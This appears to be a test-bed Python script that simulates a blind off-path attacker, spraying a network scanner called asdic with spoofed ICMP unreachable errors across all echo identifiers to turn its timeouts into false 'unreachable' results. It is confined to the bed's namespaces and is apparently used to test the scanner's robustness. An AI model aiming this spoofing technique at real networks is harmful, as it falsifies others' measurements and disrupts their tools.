#!/usr/bin/env python3
"""A blind off-path attacker for the test bed: from the router namespace, sprays the scanner
with ICMP destination-unreachable errors that quote only the 8-byte ICMP header (RFC 792's
minimum) of an echo request to TARGET, for every identifier 0..65535 and the sequences
0..SEQS-1, again and again for SECONDS, never reading a packet. If any of them names a probe
asdic has in flight to TARGET, a timeout becomes "unreachable".

Prints the number of errors sent as one JSON line.

Safety: it sends only to SCANNER (198.18.0.1, the bed's scanner), from the router's address,
inside the bed's namespaces; the loop is bounded in time.

With IDENT, only that identifier (a run's fixed `--id`), with the sequences 0..SEQS-1.

usage: spray.py TARGET SEQS SECONDS [IDENT]
"""
import json
import socket
import struct
import sys
import time

from inet import csum, ipv4

SCANNER = "198.18.0.1"
ROUTER = "198.18.0.2"


def main():
    target, seqs, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    idents = [int(sys.argv[4])] if len(sys.argv) > 4 else range(65536)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    # The quoted datagram: our probe's IP header (as asdic sent it, 56 bytes of payload)
    # and the first 8 bytes of its ICMP echo request.
    scanner, router = socket.inet_aton(SCANNER), socket.inet_aton(ROUTER)
    quoted_ip = ipv4(scanner, socket.inet_aton(target), 1, b"\0" * (8 + 56))[:20]
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for ident in idents:
            for seq in range(seqs):
                echo = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
                err = struct.pack("!BBHI", 3, 1, 0, 0) + quoted_ip + echo
                err = err[:2] + struct.pack("!H", csum(err)) + err[4:]
                try:
                    s.sendto(ipv4(router, scanner, 1, err), (SCANNER, 0))
                    sent += 1
                except OSError:
                    pass
                if seq % 4096 == 4095 and time.monotonic() >= end:
                    break
            if ident % 4096 == 0 and time.monotonic() >= end:
                break
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main()
